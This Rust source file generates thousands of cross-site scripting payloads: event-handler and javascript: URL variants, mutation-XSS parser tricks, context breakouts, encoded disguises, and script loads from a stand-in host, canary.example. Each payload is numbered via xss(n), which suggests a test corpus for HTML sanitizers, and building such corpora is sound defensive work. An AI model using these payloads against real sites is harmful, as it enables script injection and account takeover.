//! Markup that wants to run a script, load something or take a page over: by combination, so that no filter of one spelling passes, and
//! the classic tricks. Each calls `xss(n)` with its own number where it runs.

use std::collections::BTreeSet;

/// Where `xss(n)` goes.
const CALL: &str = "@";

/// A host that must never be asked for anything but a picture.
pub const CANARY: &str = "canary.example";

const TAGS: [&str; 22] = [
    "img src=x",
    "img src=http://canary.example/i.png",
    "svg",
    "body",
    "video src=x",
    "video><source",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe",
    "marquee",
    "math",
    "object data=x",
    "a href=x",
    "div",
    "x-y tabindex=1 autofocus",
    "select autofocus",
    "button autofocus",
    "style",
    "svg><animate",
    "p draggable=true",
    "embed src=x",
];
const EVENTS: [&str; 12] = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerover",
    "onbegin",
    "onclick",
    "onstart",
    "OnErRoR",
    "onloadstart",
];
const SEPARATORS: [&str; 6] = [" ", "/", "\t", "\n", "\u{c}", " / "];

/// The spellings of an attribute's value that a browser reads alike.
fn spellings(call: &str) -> Vec<String> {
    let decimal: String = call.chars().map(|c| format!("&#{};", u32::from(c))).collect();
    let hexadecimal: String = call.chars().map(|c| format!("&#x{:04X}", u32::from(c))).collect();
    vec![
        format!("={call}"),
        format!("=\"{call}\""),
        format!("='{call}'"),
        format!("= \n{call}"),
        format!("=\"{decimal}\""),
        format!("={hexadecimal};"),
        format!("=\"{call}\"a=\"b\""),
    ]
}

/// Elements with an address, the address at `%`.
const ADDRESSED: [&str; 24] = [
    "<a href=%>k</a>",
    "<iframe src=%></iframe>",
    "<object data=%></object>",
    "<embed src=%>",
    "<form action=%><input type=submit autofocus></form>",
    "<form><button formaction=%>k</button></form>",
    "<map><area href=%></map>",
    "<link rel=stylesheet href=%>",
    "<base href=%>",
    "<meta http-equiv=refresh content=\"0;url=%\">",
    "<svg><a xlink:href=%><text y=9>k</text></a></svg>",
    "<math href=%>k</math>",
    "<img src=%>",
    "<img srcset=%>",
    "<video poster=%></video>",
    "<body background=%>",
    "<table background=%><tr><td>k</table>",
    "<svg><use href=%></svg>",
    "<svg><image href=%></svg>",
    "<script src=%></script>",
    "<input type=image src=%>",
    "<frameset><frame src=%></frameset>",
    "<svg><animate attributeName=href values=% /></svg>",
    "<a ping=% href=x>k</a>",
];
const ADDRESSES: [&str; 19] = [
    "javascript:@",
    "JaVaScRiPt:@",
    "java\tscript:@",
    "java\nscript:@",
    "&#106;avascript:@",
    "&#x6A;avascript&colon;@",
    "\u{1}javascript:@",
    " javascript:@",
    "javascript&#58;@",
    "javascript://%0a@",
    "jav&Tab;ascript:@",
    "vbscript:@",
    "data:text/html,<script>top.@</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AueHNzKDApPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg/onload=@>",
    "feed:javascript:@",
    "//canary.example/x",
    "http://canary.example/x",
    "&#0000106&#0000097vascript:@",
];

/// What is no combination: parsers that disagree, and contexts that end where nobody expects it.
const TRICKS: [&str; 56] = [
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT>",
    "<script/x>@</script>",
    "<script\n>@</script >",
    "<scr<script>ipt>@</scr</script>ipt>",
    "<<script>@//<</script>",
    "<script>@",
    "<svg><script>@</script></svg>",
    "<svg><script>&#64;@</script>",
    "<math><script>@</script></math>",
    "<script src=//canary.example/x.js></script>",
    "<svg><script href=//canary.example/x.js />",
    "<script type=module>import '//canary.example/x.js';@</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=@>\">",
    "<title><img title=\"</title><img src=x onerror=@>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=@>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=@>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=@>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=@>\">",
    "<style><p title=\"</style><img src=x onerror=@>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=@&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>",
    "<svg></p><style><a id=\"</style><img src=x onerror=@>\">",
    "<math></p><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=@&gt;\">",
    "<svg><desc><table><style><a title=\"</style></table></desc></svg><img src=x onerror=@>\">",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><![CDATA[><img src=x onerror=@>]]></svg>",
    "<!--><img src=x onerror=@>-->",
    "<!--!><img src=x onerror=@>",
    "<!-- --!><img src=x onerror=@> -->",
    "<![CDATA[<img src=x onerror=@>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=@>",
    "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=@>\">]>&y;",
    "<template><img src=x onerror=@></template>",
    "<template shadowrootmode=open><img src=x onerror=@></template>",
    "<iframe srcdoc=\"<img src=x onerror=parent.@>\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;parent.@&lt;/script&gt;\"></iframe>",
    "<plaintext><img src=x onerror=@>",
    "<style>*{background:url(//canary.example/s.css)}</style>",
    "<style>@import '//canary.example/i.css';</style>",
    "<div style=\"background:url(javascript:@)\">k</div>",
    "<div style=\"width:expression(@)\">k</div>",
    "<div style=\"-moz-binding:url(//canary.example/x#y)\">k</div>",
    "<div style=\"position:fixed;inset:0\">k</div>",
    "<link rel=stylesheet href=//canary.example/l.css>",
    "<link rel=prefetch href=//canary.example/p>",
    "<object type=text/html data=//canary.example/o></object>",
    "<meta http-equiv=refresh content=0;url=//canary.example/m>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base target=_top href=//canary.example/>",
    "<audio src=//canary.example/a autoplay></audio>",
    "<button popovertarget=p onclick=@>k</button><div popover id=p onbeforetoggle=@>",
    "<input type=hidden oncontentvisibilityautostatechange=@ style=content-visibility:auto>",
    "<img src=`x`onerror=@>",
    "<img src=\"x\"\u{b}onerror=\"@\">",
];

/// What may stand around, the payload at `%`: the ends of whatever one could be within, and layers of escaping.
const CONTEXTS: [&str; 17] = [
    "%",
    "\">%",
    "'>%",
    "--><!-- -->%",
    "]]>%",
    "</title>%",
    "</textarea></style>%",
    "</script>%",
    "</a></p></li></ul></article></main>%",
    "<a title='%'>k</a>",
    "<a title=\"%\">k</a>",
    "<p>a<b>%",
    "<table><tr>%</table>",
    "<blockquote cite=\"%\">k</blockquote>",
    "<b/%/",
    "k &lt;b&gt;%",
    "<!--%-->",
];

/// The same again for who decodes once more than he should.
fn disguised(payload: &str, way: usize) -> String {
    let each = |format: fn(u32) -> String| {
        payload.chars().map(|c| if "<>\"'&".contains(c) { format(u32::from(c)) } else { c.to_string() }).collect()
    };
    match way {
        0 => payload.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;"),
        1 => disguised(&disguised(payload, 0), 0),
        2 => each(|c| format!("&#{c};")),
        3 => each(|c| format!("&#x{c:x}")),
        4 => each(|c| format!("%{c:02X}")),
        5 => each(|c| format!("\\u{c:04x}")),
        6 => each(|c| char::from_u32(c + 0xfee0).map(String::from).unwrap_or_default()),
        7 => payload.replace('<', "<\0"),
        8 => payload.replace('<', "+ADw-").replace('>', "+AD4-"),
        _ => payload.replace('<', "\u{f03c}"),
    }
}

/// All of them, each once, each with its number in it.
pub fn all() -> Vec<String> {
    let mut patterns: Vec<String> = Vec::new();
    for (t, tag) in TAGS.iter().enumerate() {
        for (e, event) in EVENTS.iter().enumerate() {
            for (s, separator) in SEPARATORS.iter().enumerate() {
                // Most spellings of each, all over all.
                for spelling in spellings(CALL).iter().cycle().skip(t + e + s).take(5) {
                    patterns.push(format!("<{tag}{separator}{event}{spelling}>k"));
                }
            }
        }
    }
    for element in ADDRESSED {
        for address in ADDRESSES {
            for quote in ["", "\"", "'"] {
                patterns.push(element.replace('%', &format!("{quote}{address}{quote}")));
            }
        }
    }
    for trick in TRICKS {
        patterns.extend(CONTEXTS.map(|context| context.replace('%', trick)));
        patterns.extend((0..10).map(|way| disguised(trick, way)));
    }
    for (n, tag) in TAGS.iter().enumerate() {
        let payload = format!("<{tag} {}=@>", EVENTS[n % EVENTS.len()]);
        patterns.extend(CONTEXTS.map(|context| context.replace('%', &payload)));
        patterns.extend((0..10).map(|way| disguised(&payload, way)));
    }
    let unique: BTreeSet<String> = patterns.into_iter().collect();
    // In an order in which neighbours are strangers, the same every time.
    let mut mixed: Vec<String> = unique.into_iter().collect();
    let count = mixed.len();
    for at in 0..count {
        mixed.swap(at, at * 7919 % count);
    }
    mixed.iter().enumerate().map(|(n, pattern)| pattern.replace(CALL, &format!("xss({n})"))).collect()
}
